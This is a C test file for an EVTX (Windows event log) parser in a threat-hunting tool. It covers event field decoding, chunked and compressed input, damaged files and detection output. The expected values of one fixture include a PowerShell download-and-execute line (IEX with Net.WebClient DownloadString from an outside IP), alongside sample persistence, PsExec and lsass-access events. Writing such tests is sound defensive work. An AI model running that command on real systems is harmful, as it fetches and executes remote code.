/*
 * test_evtx.c - EVTX files read through tr_source / tr_reader: the fields of
 * every event shape, records across chunks, block mode against record mode,
 * resuming, compressed input, every damaged variant (what is reported, what
 * is recovered) and allocation-free decoding.
 *
 * The files in tests/data/evtx were written by tests/tools/mkevtx.py and
 * checked with evtxexport (libevtx-utils).
 */
#include "tt.h"

#include "core/buf.h"
#include "input/evtx_source.h"
#include "parse/evtx_wire.h"
#include "trawl/arena.h"
#include "trawl/hunt.h"
#include "trawl/input.h"
#include "trawl/log.h"
#include "trawl/reader.h"

/* ------------------------------------------------------------ helpers */

typedef struct logcap {
    tr_buf text;
    int n;
} logcap;

static void cap_sink(tr_log_level level, const char *line, void *ctx)
{
    (void)level;
    logcap *c = ctx;
    tr_buf_append(&c->text, line, strlen(line));
    tr_buf_putc(&c->text, '\n');
    c->n++;
}

static void cap_start(logcap *c)
{
    memset(c, 0, sizeof(*c));
    tr_buf_init(&c->text, 1 << 20);
    tr_log_set_sink(cap_sink, c);
}

static void cap_stop(logcap *c)
{
    tr_log_set_sink(NULL, NULL);
    tr_buf_release(&c->text);
}

static const char *data_path(const char *name)
{
    static char path[512];
    snprintf(path, sizeof(path), "%s/evtx/%s", tt_datadir(), name);
    return path;
}

typedef struct events {
    tr_field fields[256];
    tr_arena *arena;
    tr_event ev;
    tr_reader *r;
} events;

static bool ev_open(events *e, const char *path)
{
    memset(e, 0, sizeof(*e));
    e->arena = tr_arena_new(0, 1 << 20);
    tr_event_init(&e->ev, e->fields, 256, e->arena);
    char err[512];
    if (tr_reader_open(path, NULL, &e->r, err, sizeof(err)) != TR_OK) {
        fprintf(stderr, "  %s\n", err);
        return false;
    }
    return true;
}

static void ev_close(events *e)
{
    tr_reader_free(e->r);
    tr_arena_free(e->arena);
}

static const char *fv(const tr_event *ev, const char *name)
{
    static char buf[1024];
    const tr_field *f = tr_event_find(ev, tr_str_c(name));
    if (!f)
        return "(missing)";
    snprintf(buf, sizeof(buf), "%.*s", (int)f->value.n, f->value.p);
    return buf;
}

/* ------------------------------------------------------------- shapes */

TEST(evtx_shapes_every_event)
{
    events e;
    CHECK(ev_open(&e, data_path("shapes.evtx")));
    CHECK_EQ(tr_reader_format(e.r), TR_FMT_EVTX);
    tr_event *ev = &e.ev;
    /* 0: Sysmon 1, with XML specials in the command line and a non-ASCII host */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_EQ(ev->record, 0);
    CHECK_EQ(ev->line, 0);
    CHECK_SLICE(ev->logsource.product, "windows");
    CHECK_STR(fv(ev, "Provider_Name"), "Microsoft-Windows-Sysmon");
    CHECK_STR(fv(ev, "Provider_Guid"), "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}");
    CHECK_STR(fv(ev, "EventID"), "1");
    CHECK_STR(fv(ev, "Channel"), "Microsoft-Windows-Sysmon/Operational");
    CHECK_STR(fv(ev, "Computer"), "WKS-\xc3\x85SA.contoso.local");
    CHECK_STR(fv(ev, "Image"), "C:\\Windows\\System32\\cmd.exe");
    CHECK_STR(fv(ev, "CommandLine"), "cmd.exe /c \"echo a&b <x> 'y'\" && whoami");
    CHECK_STR(fv(ev, "LogonId"), "0x3e7");
    CHECK_STR(fv(ev, "ProcessGuid"), "{DFAE8213-5B49-5CDD-0000-0010EE520500}");
    CHECK_STR(fv(ev, "Product"), "Microsoft\xc2\xae Windows\xc2\xae Operating System");
    CHECK_STR(fv(ev, "EventRecordID"), "1");
    CHECK_STR(fv(ev, "Security_UserID"), "S-1-5-18");
    CHECK_STR(fv(ev, "TimeCreated_SystemTime"), "2021-03-04T10:00:00.250000000Z");
    CHECK_EQ(ev->ts, INT64_C(1614852000250000000));
    /* 1: Sysmon 3 */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "EventID"), "3");
    CHECK_STR(fv(ev, "DestinationIp"), "203.0.113.7");
    CHECK_STR(fv(ev, "DestinationPort"), "443");
    CHECK_STR(fv(ev, "Initiated"), "true");
    /* 2: Sysmon 11, a file name outside the BMP too */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "TargetFilename"),
              "C:\\Users\\Public\\Gr\xc3\xbc\xc3\x9f" "e \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x90\x9f.exe");
    /* 3: Sysmon 13 */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "EventType"), "SetValue");
    CHECK_STR(fv(ev, "TargetObject"),
              "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater");
    /* 4: Security 4688: HexInt64 values as Windows writes them */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "EventID"), "4688");
    CHECK_STR(fv(ev, "Channel"), "Security");
    CHECK_STR(fv(ev, "NewProcessName"), "C:\\Windows\\System32\\whoami.exe");
    CHECK_STR(fv(ev, "NewProcessId"), "0x1c4");
    CHECK_STR(fv(ev, "ProcessId"), "0x1f4");
    CHECK_STR(fv(ev, "SubjectLogonId"), "0x3e7");
    CHECK_STR(fv(ev, "TargetLogonId"), "0x0");
    CHECK_STR(fv(ev, "SubjectUserSid"), "S-1-5-21-3461203602-4096304019-2269080069-1104");
    CHECK_STR(fv(ev, "MandatoryLabel"), "S-1-16-12288");
    CHECK_STR(fv(ev, "TokenElevationType"), "%%1936");
    CHECK_STR(fv(ev, "Keywords"), "0x8020000000000000");
    CHECK(!tr_event_find(ev, TR_STR("Security_UserID")));
    /* 5: Security 4624 */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "LogonType"), "3");
    CHECK_STR(fv(ev, "IpAddress"), "198.51.100.23");
    CHECK_STR(fv(ev, "LogonGuid"), "{00000000-0000-0000-0000-000000000000}");
    CHECK_STR(fv(ev, "TargetLogonId"), "0x1b7f3a");
    CHECK_STR(fv(ev, "LogonProcessName"), "NtLmSsp ");
    /* 6: System 7045, EventID with qualifiers */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "EventID"), "7045");
    CHECK_STR(fv(ev, "EventID_Qualifiers"), "16384");
    CHECK_STR(fv(ev, "Provider_Name"), "Service Control Manager");
    CHECK_STR(fv(ev, "Provider_EventSourceName"), "Service Control Manager");
    CHECK_STR(fv(ev, "ServiceName"), "PSEXESVC");
    CHECK_STR(fv(ev, "ImagePath"), "%SystemRoot%\\PSEXESVC.exe");
    CHECK_STR(fv(ev, "Correlation_ActivityID"), "{B1F2E0A5-9C1B-4F3E-8D7A-1A2B3C4D5E6F}");
    CHECK_STR(fv(ev, "Keywords"), "0x8080000000000000");
    /* 7: PowerShell 4104 */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "EventID"), "4104");
    CHECK_STR(fv(ev, "ScriptBlockText"), "IEX (New-Object Net.WebClient).DownloadString("
                                         "'http://203.0.113.7/a.ps1') # Gr\xc3\xbc\xc3\x9f" "e");
    CHECK_STR(fv(ev, "MessageNumber"), "1");
    CHECK_STR(fv(ev, "Path"), "");
    CHECK_STR(fv(ev, "Keywords"), "0x0");
    CHECK_STR(fv(ev, "Level"), "5");
    /* 8: Security 1102 in UserData */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "EventID"), "1102");
    CHECK_STR(fv(ev, "SubjectUserName"), "Administrator");
    CHECK_STR(fv(ev, "SubjectLogonId"), "0x1b7f3a");
    CHECK(!tr_event_find(ev, TR_STR("LogFileCleared")));
    /* 9: a classic event: unnamed Data items, Binary, Qualifiers 0 */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "EventID"), "1040");
    CHECK_STR(fv(ev, "EventID_Qualifiers"), "0");
    CHECK_STR(fv(ev, "Keywords"), "0x80000000000000");
    CHECK_STR(fv(ev, "Binary"), "284E554C4C2900");
    int data = 0;
    for (uint32_t i = 0; i < ev->nfields; i++)
        if (tr_str_eq(ev->fields[i].name, TR_STR("Data"))) {
            CHECK(ev->fields[i].flags & TR_FIELD_MULTI);
            data++;
        }
    CHECK_EQ(data, 3);
    CHECK_STR(fv(ev, "Data"), "C:\\Users\\alice\\AppData\\Local\\Temp\\setup.msi");
    /* 10: Sysmon 10, HexInt32 */
    CHECK_EQ(tr_reader_next(e.r, ev), TR_OK);
    CHECK_STR(fv(ev, "GrantedAccess"), "0x1010");
    CHECK_STR(fv(ev, "TargetImage"), "C:\\Windows\\system32\\lsass.exe");
    CHECK_EQ(ev->record, 10);
    CHECK_EQ(tr_reader_next(e.r, ev), TR_EEOF);
    const tr_reader_stats *st = tr_reader_stats_get(e.r);
    CHECK_EQ(st->events, 11);
    CHECK_EQ(st->rejected, 0);
    ev_close(&e);
}

/* ----------------------------------------------------- across chunks */

static int count_events(const char *name, uint64_t *rejected, logcap *log)
{
    events e;
    if (log)
        cap_start(log);
    if (!ev_open(&e, data_path(name))) {
        if (log)
            tr_log_set_sink(NULL, NULL);
        return -1;
    }
    int n = 0;
    tr_err err;
    while ((err = tr_reader_next(e.r, &e.ev)) != TR_EEOF) {
        if (err == TR_OK)
            n++;
        else if (err != TR_EPARSE && err != TR_ELIMIT) {
            n = -2;
            break;
        } else if (log) {
            char line[600];
            snprintf(line, sizeof(line), "rejected: %s", tr_reader_errmsg(e.r));
            cap_sink(TR_LOG_ERROR, line, log);
        }
    }
    if (rejected)
        *rejected = tr_reader_stats_get(e.r)->rejected;
    ev_close(&e);
    if (log)
        tr_log_set_sink(NULL, NULL);
    return n;
}

TEST(evtx_many_records_across_chunks)
{
    events e;
    CHECK(ev_open(&e, data_path("multi.evtx")));
    uint64_t last_offset = 0;
    int n = 0;
    tr_err err;
    while ((err = tr_reader_next(e.r, &e.ev)) == TR_OK) {
        char id[16];
        snprintf(id, sizeof(id), "%d", 100 + n);
        CHECK_STR(fv(&e.ev, "EventRecordID"), id);
        CHECK_EQ(e.ev.record, n);
        CHECK(e.ev.offset > last_offset);
        /* 40 records a chunk: records 40..79 sit in the second chunk */
        CHECK_EQ((e.ev.offset - 4096) / 65536, (uint64_t)n / 40);
        last_offset = e.ev.offset;
        n++;
    }
    CHECK_EQ(err, TR_EEOF);
    CHECK_EQ(n, 120);
    CHECK_EQ(tr_reader_offset(e.r), 120); /* the resume position counts records */
    ev_close(&e);
}

/* ------------------------------------------------------- block mode */

TEST(evtx_block_mode_equals_record_mode)
{
    char err[256];
    tr_source *a, *b;
    CHECK_EQ(tr_source_open(data_path("multi.evtx"), NULL, &a, err, sizeof(err)), TR_OK);
    CHECK_EQ(tr_source_open(data_path("multi.evtx"), NULL, &b, err, sizeof(err)), TR_OK);
    CHECK_EQ(tr_source_framing(a), TR_FRAME_WHOLE);
    /* small blocks: records must move to the next block, and one block must grow */
    tr_block blk = { .buf = tr_malloc(3000), .cap = 3000, .recs = tr_malloc(7 * sizeof(tr_record)),
                     .maxrecs = 7 };
    CHECK(blk.buf && blk.recs);
    size_t total = 0, blocks = 0;
    for (;;) {
        CHECK_EQ(tr_source_next_block(b, &blk), TR_OK);
        blocks++;
        for (size_t i = 0; i < blk.nrecs; i++) {
            tr_record r;
            CHECK_EQ(tr_source_next(a, &r), TR_OK);
            CHECK_EQ(blk.recs[i].status, TR_OK);
            CHECK_EQ(blk.recs[i].offset, r.offset);
            CHECK_EQ(blk.recs[i].line, 0);
            CHECK(blk.recs[i].data.n == r.data.n &&
                  memcmp(blk.recs[i].data.p, r.data.p, r.data.n) == 0);
            CHECK(blk.recs[i].data.p >= blk.buf && blk.recs[i].data.p < blk.buf + blk.len);
            total++;
        }
        CHECK_EQ(tr_source_offset(b), total);
        if (blk.eof)
            break;
    }
    tr_record r;
    CHECK_EQ(tr_source_next(a, &r), TR_EEOF);
    CHECK_EQ(total, 120);
    CHECK(blocks > 120 / 7);
    tr_free(blk.buf);
    tr_free(blk.recs);
    tr_source_free(a);
    tr_source_free(b);
}

TEST(evtx_resume_from_a_record)
{
    tr_reader_opts o = { .start_offset = 50, .start_record = 50 };
    char err[256];
    tr_reader *r;
    CHECK_EQ(tr_reader_open(data_path("multi.evtx"), &o, &r, err, sizeof(err)), TR_OK);
    tr_field fields[128];
    tr_arena *arena = tr_arena_new(0, 1 << 20);
    tr_event ev;
    tr_event_init(&ev, fields, 128, arena);
    CHECK_EQ(tr_reader_next(r, &ev), TR_OK);
    CHECK_STR(fv(&ev, "EventRecordID"), "150");
    CHECK_EQ(ev.record, 50);
    int n = 1;
    while (tr_reader_next(r, &ev) == TR_OK)
        n++;
    CHECK_EQ(n, 70);
    tr_reader_free(r);
    o.start_offset = o.start_record = 120;
    CHECK_EQ(tr_reader_open(data_path("multi.evtx"), &o, &r, err, sizeof(err)), TR_OK);
    CHECK_EQ(tr_reader_next(r, &ev), TR_EEOF);
    tr_reader_free(r);
    tr_arena_free(arena);
}

TEST(evtx_compressed_and_piped)
{
    const char *dir = tt_tmpdir();
    char cmd[1200];
    snprintf(cmd, sizeof(cmd), "gzip -c '%s' > '%s/shapes.evtx.gz' && zstd -q -c '%s' > "
             "'%s/shapes.evtx.zst'", data_path("shapes.evtx"), dir, data_path("shapes.evtx"), dir);
    CHECK_EQ(system(cmd), 0);
    const char *names[] = { "shapes.evtx.gz", "shapes.evtx.zst" };
    for (int k = 0; k < 2; k++) {
        char path[600];
        snprintf(path, sizeof(path), "%s/%s", dir, names[k]);
        events e;
        CHECK(ev_open(&e, path));
        CHECK_EQ(tr_reader_format(e.r), TR_FMT_EVTX);
        int n = 0;
        while (tr_reader_next(e.r, &e.ev) == TR_OK) {
            if (n == 2)
                CHECK(strstr(fv(&e.ev, "TargetFilename"), "\xf0\x9f\x90\x9f"));
            n++;
        }
        CHECK_EQ(n, 11);
        ev_close(&e);
    }
}

/* ------------------------------------------------------ damaged files */

TEST(evtx_damaged_checksums_read_anyway)
{
    logcap log;
    uint64_t rej;
    CHECK_EQ(count_events("damaged/bad-header-crc.evtx", &rej, &log), 120);
    CHECK_EQ(rej, 0);
    CHECK_MSG(strstr(log.text.p, "bad-header-crc.evtx: chunk 1: chunk header checksum mismatch"),
              "%s", log.text.p);
    cap_stop(&log);
    CHECK_EQ(count_events("damaged/bad-data-crc.evtx", &rej, &log), 120);
    CHECK_MSG(strstr(log.text.p, "chunk 1: event records checksum mismatch"), "%s", log.text.p);
    CHECK_EQ(log.n, 1);
    cap_stop(&log);
    CHECK_EQ(count_events("damaged/bad-file-header-crc.evtx", &rej, &log), 120);
    CHECK_MSG(strstr(log.text.p, "file header checksum mismatch"), "%s", log.text.p);
    cap_stop(&log);
}

TEST(evtx_damaged_truncated_mid_chunk)
{
    logcap log;
    uint64_t rej;
    /* chunk 0 whole, chunk 1 cut 30000 bytes in, chunk 2 gone */
    int n = count_events("damaged/truncated.evtx", &rej, &log);
    CHECK(n > 40 && n < 80);
    CHECK_EQ(rej, 0);
    CHECK_MSG(strstr(log.text.p, "chunk 1: truncated: the file ends 30000 bytes into this chunk"),
              "%s", log.text.p);
    CHECK(strstr(log.text.p, "the file header declares 3 chunks, the file holds 2"));
    cap_stop(&log);
}

TEST(evtx_damaged_garbage_chunk)
{
    logcap log;
    uint64_t rej;
    CHECK_EQ(count_events("damaged/garbage-chunk.evtx", &rej, &log), 80);
    CHECK_EQ(rej, 0);
    CHECK_MSG(strstr(log.text.p, "chunk 1: no chunk signature"), "%s", log.text.p);
    cap_stop(&log);
}

TEST(evtx_damaged_bad_record_size_recovers_the_rest)
{
    /* the third record of chunk 0 claims a size past the chunk: libevtx stops
     * the chunk's record list there and recovers the records after it */
    logcap log;
    uint64_t rej;
    tr_log_set_level(TR_LOG_INFO);
    CHECK_EQ(count_events("damaged/bad-record-size.evtx", &rej, &log), 119);
    tr_log_set_level(TR_LOG_WARN);
    CHECK_EQ(rej, 0);
    CHECK_MSG(strstr(log.text.p, "37 records recovered from chunk free space"), "%s", log.text.p);
    cap_stop(&log);
    char err[256];
    tr_evtx_source *s = NULL;
    FILE *f = fopen(data_path("damaged/bad-record-size.evtx"), "rb");
    CHECK(f);
    static char img[300000];
    size_t n = fread(img, 1, sizeof(img), f);
    fclose(f);
    cap_start(&log);
    CHECK_EQ(tr_evtx_source_open_mem("x", img, n, NULL, &s, err, sizeof(err)), TR_OK);
    tr_record r;
    int k = 0, recovered = 0;
    while (tr_evtx_source_next(s, &r) == TR_OK) {
        k++;
        recovered += (tr_evtx_get32(r.data.p + 4) & TR_EVTX_WIRE_RECOVERED) != 0;
    }
    const tr_evtx_source_stats *st = tr_evtx_source_stats_get(s);
    CHECK_EQ(k, 119);
    CHECK_EQ(recovered, 37);
    CHECK_EQ(st->allocated, 82);
    CHECK_EQ(st->recovered, 37);
    CHECK_EQ(st->duplicates, 0);
    tr_evtx_source_free(s);
    cap_stop(&log);
}

TEST(evtx_damaged_unresolvable_template_is_a_rejected_record)
{
    logcap log;
    uint64_t rej;
    CHECK_EQ(count_events("damaged/bad-template.evtx", &rej, &log), 2);
    CHECK_EQ(rej, 1);
    CHECK_MSG(strstr(log.text.p, "rejected: record 1 (chunk 0, offset 0x1c28): cannot be read: "
                                 "invalid binary XML token"),
              "%s", log.text.p);
    cap_stop(&log);
    /* the records around it keep their indexes */
    events e;
    CHECK(ev_open(&e, data_path("damaged/bad-template.evtx")));
    CHECK_EQ(tr_reader_next(e.r, &e.ev), TR_OK);
    CHECK_EQ(e.ev.record, 0);
    CHECK_EQ(tr_reader_next(e.r, &e.ev), TR_EPARSE);
    CHECK_EQ(tr_reader_next(e.r, &e.ev), TR_OK);
    CHECK_EQ(e.ev.record, 2);
    CHECK_STR(fv(&e.ev, "NewProcessName"), "C:\\b.exe");
    ev_close(&e);
}

TEST(evtx_damaged_empty_and_header_only)
{
    logcap log;
    uint64_t rej;
    CHECK_EQ(count_events("damaged/zero-length.evtx", &rej, &log), 0);
    CHECK_MSG(strstr(log.text.p, "zero-length.evtx: empty file"), "%s", log.text.p);
    cap_stop(&log);
    CHECK_EQ(count_events("damaged/header-only.evtx", &rej, &log), 0);
    CHECK_MSG(strstr(log.text.p, "the file header declares 3 chunks, the file holds 0"), "%s",
              log.text.p);
    cap_stop(&log);
    /* a file too short for a header, and one that is not EVTX at all */
    char err[256];
    tr_evtx_source *s = NULL;
    cap_start(&log);
    CHECK_EQ(tr_evtx_source_open_mem("short", "ElfFile", 8, NULL, &s, err, sizeof(err)),
             TR_EFORMAT);
    CHECK(!s);
    CHECK_MSG(strstr(log.text.p, "short: file header truncated (8 bytes)"), "%s", log.text.p);
    CHECK_STR(err, "short: not a readable EVTX file");
    static char junk[5000];
    memset(junk, 'x', sizeof(junk));
    CHECK_EQ(tr_evtx_source_open_mem("junk", junk, sizeof(junk), NULL, &s, err, sizeof(err)),
             TR_EFORMAT);
    CHECK(strstr(log.text.p, "junk: no EVTX file signature"));
    cap_stop(&log);
}

TEST(evtx_damaged_chunk_header_libevtx_refuses)
{
    /* a chunk whose free-space offset is out of range makes libevtx refuse
     * the whole file; trawl clears that chunk's signature and reads the rest */
    FILE *f = fopen(data_path("multi.evtx"), "rb");
    CHECK(f);
    static unsigned char img[300000];
    size_t n = fread(img, 1, sizeof(img), f);
    fclose(f);
    unsigned char *c1 = img + 4096 + 65536;
    c1[48] = 0x10; /* free space offset 0x10: inside the chunk header */
    c1[49] = c1[50] = c1[51] = 0;
    logcap log;
    cap_start(&log);
    char err[256];
    tr_evtx_source *s = NULL;
    CHECK_EQ(tr_evtx_source_open_mem("hdr", img, n, NULL, &s, err, sizeof(err)), TR_OK);
    tr_record r;
    int k = 0;
    while (tr_evtx_source_next(s, &r) == TR_OK)
        k++;
    /* chunk 1's records come back through libevtx's scan of the chunk */
    CHECK_MSG(k >= 80, "%d records", k);
    CHECK_MSG(strstr(log.text.p, "hdr: chunk 1: bad chunk header (header size 128, free space at "
                                 "16); scanned for records instead"),
              "%s", log.text.p);
    tr_evtx_source_free(s);
    cap_stop(&log);
}

/* ------------------------------------------------------ allocations */

TEST(evtx_decode_allocation_free)
{
    char err[256];
    tr_source *s;
    CHECK_EQ(tr_source_open(data_path("shapes.evtx"), NULL, &s, err, sizeof(err)), TR_OK);
    /* collect the records, then decode them again and again */
    static char recs[64][8192];
    size_t lens[64], n = 0;
    tr_record r;
    while (n < 64 && tr_source_next(s, &r) == TR_OK) {
        CHECK(r.data.n <= sizeof(recs[0]));
        memcpy(recs[n], r.data.p, r.data.n);
        lens[n++] = r.data.n;
    }
    tr_source_free(s);
    CHECK_EQ(n, 11);
    tr_parser *p;
    CHECK_EQ(tr_parser_new(TR_FMT_EVTX, NULL, &p), TR_OK);
    tr_field fields[128];
    tr_arena *arena = tr_arena_new(0, 1 << 20);
    tr_event ev;
    tr_event_init(&ev, fields, 128, arena);
    for (size_t i = 0; i < n; i++) { /* warm-up */
        tr_arena_reset(arena);
        tr_event_reset(&ev);
        CHECK_EQ(tr_parser_parse(p, (tr_str){ recs[i], lens[i] }, &ev), TR_OK);
    }
    uint64_t before = tr_alloc_count();
    for (int round = 0; round < 100; round++)
        for (size_t i = 0; i < n; i++) {
            tr_arena_reset(arena);
            tr_event_reset(&ev);
            CHECK_EQ(tr_parser_parse(p, (tr_str){ recs[i], lens[i] }, &ev), TR_OK);
            /* zero-copy: every name and value points into the record */
            for (uint32_t k = 0; k < ev.nfields; k++)
                CHECK(ev.fields[k].name.p >= recs[i] && ev.fields[k].value.p + ev.fields[k].value.n
                      <= recs[i] + lens[i]);
        }
    CHECK_EQ(tr_alloc_count(), before);
    tr_parser_free(p);
    tr_arena_free(arena);
}

/* ------------------------------------------------------------- hunting */

typedef struct field_matcher {
    const char *field, *needle;
} field_matcher;

static tr_err field_scan(void *ctx, void *scratch, const tr_event *ev, tr_hunt_emit *e)
{
    (void)scratch;
    field_matcher *m = ctx;
    const tr_field *f = tr_event_find(ev, tr_str_c(m->field));
    if (!f || !memmem(f->value.p, f->value.n, m->needle, strlen(m->needle)))
        return TR_OK;
    tr_kv kv = { tr_str_c(m->field), f->value };
    tr_detection d = { .kind = TR_DET_SIGMA, .ts = TR_TS_NONE, .rule_id = TR_STR("r-evtx"),
                       .rule_title = TR_STR("substring"), .level = TR_STR("high"),
                       .fields = &kv, .nfields = 1 };
    return tr_hunt_emit_detection(e, &d);
}

static char *hunt_evtx(unsigned threads, size_t block, tr_hunt_stats *st)
{
    char p0[512], p1[512], p2[512];
    snprintf(p0, sizeof(p0), "%s", data_path("multi.evtx"));
    snprintf(p1, sizeof(p1), "%s", data_path("damaged/bad-template.evtx"));
    snprintf(p2, sizeof(p2), "%s", data_path("shapes.evtx"));
    const char *const all[] = { p0, p1, p2 };
    char *out = NULL;
    size_t outn = 0;
    FILE *mem = open_memstream(&out, &outn);
    tr_sink *sink;
    tr_sink_file_new(mem, TR_DETFMT_JSONL, &sink);
    field_matcher m = { "CommandLine", "e" };
    tr_matcher mt = { .name = "substr", .ctx = &m, .scan = field_scan };
    tr_hunt_config cfg = { .threads = threads, .block_size = block, .matchers = &mt,
                           .nmatchers = 1, .sinks = &sink, .nsinks = 1 };
    memset(st, 0, sizeof(*st));
    tr_log_set_level(TR_LOG_ERROR);
    tr_err e = tr_hunt_run(&cfg, all, 3, st);
    tr_log_set_level(TR_LOG_WARN);
    tr_sink_free(sink);
    fclose(mem);
    if (e) {
        free(out);
        return NULL;
    }
    return out;
}

TEST(evtx_hunt_reads_evtx_in_blocks)
{
    tr_hunt_stats st1, st2;
    char *a = hunt_evtx(1, 1 << 20, &st1);
    char *b = hunt_evtx(2, 4096, &st2); /* small blocks: many per file */
    CHECK(a && b);
    CHECK_STR(a, b);
    CHECK_EQ(st1.events, 120 + 2 + 11);
    CHECK_EQ(st1.rejected, 1);
    CHECK_EQ(st1.sources_failed, 0);
    CHECK_EQ(st2.events, st1.events);
    CHECK_EQ(st1.by_format[TR_FMT_EVTX].files, 3);
    /* the 4688 records of multi.evtx (record 1, 5, …) match "net user";
     * their record indexes count every record of the file */
    CHECK(strstr(a, "\"record\":1,"));
    CHECK(strstr(a, "\"CommandLine\":\"net user /domain 101\""));
    CHECK(strstr(a, "\"CommandLine\":\"b\"") == NULL);
    free(a);
    free(b);
}
